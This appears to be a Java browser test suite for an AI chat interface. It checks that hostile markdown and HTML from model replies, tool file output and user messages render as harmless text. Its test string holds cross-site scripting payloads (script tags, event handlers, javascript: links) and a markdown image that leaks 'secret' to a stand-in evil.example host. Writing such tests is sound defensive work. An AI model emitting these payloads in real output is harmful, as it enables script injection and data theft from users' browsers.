package dev.nanobot.page;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.util.List;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/// What a model or a tool writes is shown, and does nothing.
@Tag("slow")
@Timeout(180)
class HostileBrowserTest extends BrowserTestCase {
  private static final String HOSTILE =
      """
      <script>window.hacked = 1</script> <img src=x onerror="window.hacked = 2">
      <svg onload="window.hacked = 3"></svg> <iframe src="https://evil.example"></iframe>

      [a](javascript:window.hacked=4) [b](data:text/html,x) [c](vbscript:x) [d](/api/logout)
      [good](https://good.example/x) <https://auto.example>
      ![secret](https://evil.example/?q=secret) ![x](data:image/gif;base64,R0lGODlhAQABAAAAACw=)

      ```html" onmouseover="window.hacked = 5
      <b onclick="window.hacked = 6">code</b>
      ```

      $\\href{javascript:window.hacked=7}{x} \\includegraphics{https://evil.example/i.png}$
      $\\htmlData{a=b}{y}$ and $5 and $6 are money

      <style>body{display:none}</style>
      """;

  private static void assertHarmless() {
    assertThat(browser.run("return window.hacked")).isEqualTo("");
    assertThat(browser.count("main img, main iframe, main script, main style, main object"))
        .isZero();
    assertThat(browser.count("main [onerror], main [onload], main [onclick], main [onmouseover]"))
        .isZero();
    assertThat(
            browser.count(
                "main a[href^='javascript'], main a[href^='data'], main a[href^='vbscript']"))
        .isZero();
    assertThat(browser.count("a[href*='logout']")).isZero();
  }

  @Test
  void hostileMarkdownIsText() throws Exception {
    house.model.says(
        "Be hostile", List.of(HOSTILE.substring(0, 300), HOSTILE.substring(300), "\n\nend of it"));
    browser.say("Be hostile");
    browser.awaitText(".answer", "end of it");
    browser.await(".answer footer");
    assertThat(browser.text(".answer"))
        .contains("<script>window.hacked = 1</script>", "Image: secret (evil.example)")
        .contains("$5 and $6 are money");
    assertHarmless();
    assertThat(browser.find("a[href='https://good.example/x']").getAttribute("rel"))
        .isEqualTo("noreferrer noopener");
    house.reload();
    browser.awaitText(".answer", "end of it");
    assertHarmless();
  }

  @Test
  void hostileOutputOfAToolIsText() throws Exception {
    Files.writeString(house.gateway.workspace().resolve("hostile.txt"), HOSTILE);
    house.model.says(
        "Read what is hostile",
        List.of("tool:read_file {\"path\": \"hostile.txt\"}"),
        List.of("It was read."));
    browser.say("Read what is hostile");
    browser.awaitText(".answer", "It was read.");
    browser.click(".card.call summary");
    browser.awaitText(".card.call .inside", "<img src=x onerror=");
    assertHarmless();
  }

  @Test
  void aHostileMessageAndTitleAreText() throws Exception {
    String text = "<img src=x onerror=\"window.hacked = 8\"> <b>bold</b>";
    browser.say(text);
    browser.awaitText(".answer", "echo:");
    browser.awaitText(".user .bubble", text);
    browser.awaitText(".sidebar .here", "<img src=x");
    assertHarmless();
  }

  @Test
  void tablesCodeAndMathsAreShown() throws Exception {
    house.model.says(
        "Show all",
        List.of(
            "# Title\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```java\nint x = 1; // one\n```\n\n",
            "Inline $a^2 + b^2$ and\n\n$$\n\\frac{1}{2}\n= x\n$$\n\n\\[ y \\]\n\n- one"));
    browser.say("Show all");
    browser.await(".answer footer");
    assertThat(browser.find(".answer h3").getText()).isEqualTo("Title");
    assertThat(browser.find(".answer td.to-right").getText()).isEqualTo("2");
    assertThat(browser.find(".answer .hljs-comment").getText()).isEqualTo("// one");
    browser.until(() -> browser.count(".answer math") == 3, "three formulas");
    assertThat(browser.count(".answer .math.block mfrac")).isEqualTo(1);
    browser.run("navigator.clipboard.writeText = text => { window.copied = text; }");
    browser.run("document.querySelector('.code-head button').click()");
    browser.until(
        () -> "int x = 1; // one\n".equals(browser.run("return window.copied")),
        "the code is copied");
    assertThat(browser.text(".code-head button")).contains("Copied");
  }
}
